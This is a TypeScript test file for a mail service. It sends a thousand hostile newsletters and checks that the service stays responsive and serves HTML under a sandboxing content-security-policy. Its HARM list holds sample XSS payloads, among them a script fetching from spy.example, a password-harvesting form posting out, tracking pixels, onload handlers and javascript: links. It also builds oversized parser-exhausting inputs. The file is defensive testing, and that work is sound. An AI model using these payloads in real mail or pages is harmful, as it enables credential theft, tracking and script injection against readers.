import assert from 'node:assert/strict';
import { fork } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import { test } from 'node:test';
import { MAIL_DROP } from '../../testing/test-app.ts';
import { handOver, signedHeaders } from '../testing/hand-over.ts';
import type { Asked, Listening } from '../testing/hostile-service.ts';
import { mailText } from '../testing/mail-text.ts';

// Limits of time, which hold on a machine that does nothing else: `npm run test:long`.
const MAILS = Number(process.env.TEST_HOSTILE_MAILS ?? 1_000);
const HELD_MAX_MS = 50;
const SHOWN_MAX_MS = 3_000;

/** What newsletters are made of to do harm, of which each has several. */
const HARM = [
  '<script>top.document.title = "Taken"; fetch("https://spy.example/script");</script>',
  '<form action="https://spy.example/form"><input name="password"><button>Answer</button></form>',
  '<img src="https://spy.example/pixel.gif"><link rel="stylesheet" href="https://spy.example/css">',
  '<svg onload="alert(1)"><foreignObject><iframe src="https://spy.example/frame"></iframe></foreignObject></svg>',
  '<table><tr><td style="background:url(https://spy.example/back)">Offer</td></tr></table>',
  '<!-- <b --><a title=">" href="javascript:alert(1)">x</a><![CDATA[<b>]]>',
];
const LONG = [
  () => '<div>'.repeat(200_000),
  () => `<a title="${'<'.repeat(1_000_000)}`,
  () => '<!--'.repeat(250_000),
  () => '&#x41;'.repeat(170_000),
  () => '<p>Offer</p>'.repeat(80_000),
  () => `<style>${'a{b:c}'.repeat(160_000)}`,
];

/** A mail that is another one for each number. */
function hostile(n: number): Parameters<typeof mailText>[0] {
  const some = HARM.filter((_, index) => (n >> index) % 2 === 0).join('\n');
  const html = `<h1>Offer ${n}</h1>${some}${LONG[n % LONG.length]!()}`;
  const part = '--b\r\nContent-Type: image/gif; name="a.gif"\r\n\r\nGIF89a\r\n';
  // Parts without end take the thread all the time that it has, so only some have them.
  const parts = n % 25 === 0 ? part.repeat(20_000) : part.repeat(n % 7);
  const body = `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n${parts}--b--`;
  return { subject: `Offer ${n}`, id: `${n}@spy.example`, type: 'multipart/mixed; boundary=b', body };
}

test(`${MAILS} hostile mails hold the service 50 ms at the most, and each is shown in 3 s`, async (t) => {
  // In a process of its own: what makes and sends these mails holds the one that does.
  const service = fork(join(import.meta.dirname, '../testing/hostile-service.ts'));
  t.after(async () => {
    service.disconnect();
    await once(service, 'exit');
  });
  const [{ base_url, token, email, address }] = (await once(service, 'message')) as [Listening];
  const ask = async (): Promise<Asked> => {
    const answer = once(service, 'message');
    service.send('ask');
    return (await answer)[0];
  };
  const get = (path: string) =>
    fetch(`${base_url}/api/v2/mails${path}`, { headers: { authorization: `Bearer ${token}` } });
  const domain = email.slice(email.indexOf('@') + 1);
  const proof = `Authentication-Results: ${MAIL_DROP.authserv_id}; dkim=pass header.d=${domain}\r\n`;
  /** Has a mail come, and shows it. For how long that held the service, and took in all. */
  const come = async (n: number) => {
    // This answer comes once the service has ended its earlier work.
    const now = new Date((await ask()).now_ms);
    const mail = { ...hostile(n), from: email, to: 'grace@navy.example', date: now };
    const bytes = Buffer.from(proof + mailText(mail));
    const headers = signedHeaders(address, bytes, { now, key: MAIL_DROP.key });
    assert.equal((await handOver(base_url, bytes, headers)).status, 204);
    const began = performance.now();
    const [{ uuid }] = ((await (await get('?limit=1')).json()) as { data: [{ uuid: string }] }).data;
    const { data } = (await (await get(`/${uuid}`)).json()) as { data: { subject: string } };
    const html = await get(`/${uuid}/html`);
    await html.text();
    const shown_ms = performance.now() - began;
    assert.equal(data.subject, `Offer ${n}`);
    if (html.status === 200)
      assert.match(html.headers.get('content-security-policy')!, /^sandbox .*default-src 'none'/);
    else assert.equal(html.status, 404);
    return { held_ms: (await ask()).held_ms, shown_ms };
  };
  // With the first one the service loads what it needs for each.
  await come(1);
  const worst = { held_ms: 0, shown_ms: 0 };
  for (let n = 0; n < MAILS; n++) {
    let { held_ms, shown_ms } = await come(n);
    // A mail that holds it does so each time; what else happens in a process does not.
    for (let more = 0; more < 2 && held_ms > HELD_MAX_MS; more++)
      held_ms = Math.min(held_ms, (await come(n)).held_ms);
    worst.held_ms = Math.max(worst.held_ms, held_ms);
    worst.shown_ms = Math.max(worst.shown_ms, shown_ms);
  }
  t.diagnostic(JSON.stringify(worst));
  assert.ok(worst.held_ms <= HELD_MAX_MS, `held for ${worst.held_ms} ms`);
  assert.ok(worst.shown_ms <= SHOWN_MAX_MS, `shown after ${worst.shown_ms} ms`);
});
